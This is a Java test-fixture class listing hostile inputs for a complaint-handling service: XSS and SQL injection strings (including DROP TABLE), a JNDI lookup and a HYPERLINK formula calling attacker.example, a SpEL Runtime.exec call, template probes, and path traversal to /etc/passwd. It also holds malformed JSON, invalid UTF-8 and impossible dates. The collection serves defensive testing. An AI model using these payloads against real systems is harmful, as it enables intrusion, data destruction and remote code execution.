package com.complaintdesk.support;

import java.util.List;

/** The hostile strings and bodies every entry point is tried with (README "Reliability and security proof"). */
public final class BadInput {

    private BadInput() {}

    /** Script and SQL injection, as customers (or attackers posing as them) type them: plain data to us. */
    public static final List<String> INJECTIONS = List.of(
            "<script>alert(document.cookie)</script>",
            "\"><img src=x onerror=alert(1)>",
            "'; DROP TABLE cd_complaint; --",
            "' OR '1'='1",
            "1; UPDATE cd_complaint SET text='owned' WHERE 1=1; --",
            "${jndi:ldap://attacker.example/a}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "=HYPERLINK(\"http://attacker.example\",\"click\")",
            "{{7*7}} <%= 7*7 %>",
            "../../../../etc/passwd",
            "\u202Egnp.exe",
            "😡💔 收到的杯子碎了 \uD83D\uDE21");

    /** Bodies that are not JSON at all, or not the JSON asked for. */
    public static final List<String> MALFORMED_JSON = List.of(
            "{", "}", "{\"channel\":}", "{\"channel\":\"instagram\",}", "{}}", "[", "nul", "{'channel':'instagram'}",
            "{\"text\":\"unterminated}", "\u0000", "<?xml version=\"1.0\"?><complaint/>");

    /** JSON nested {@code depth} arrays deep inside an object. */
    public static String deeplyNested(int depth) {
        return "{\"text\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
    }

    /** UTF-8 that is not: a lone continuation byte, an overlong encoding, a truncated sequence, a surrogate. */
    public static final List<byte[]> INVALID_UTF8 = List.of(
            new byte[] {(byte) 0x80}, new byte[] {(byte) 0xC0, (byte) 0xAF}, new byte[] {(byte) 0xE6, (byte) 0x9D},
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xFF});

    /** Dates no complaint has: far past, far future, and not dates at all. */
    public static final List<String> BAD_DATE_TIMES = List.of("0001-01-01T00:00:00Z", "-999999999-01-01T00:00:00Z",
            "1899-12-31T23:59:59Z", "+999999999-12-31T23:59:59Z", "9999-12-31T23:59:59Z", "2026-13-45T25:61:00Z",
            "yesterday");
    public static final List<String> BAD_DATES = List.of("0001-01-01", "-999999999-01-01", "+999999999-12-31",
            "9999-12-31", "2026-02-30", "soon");
}
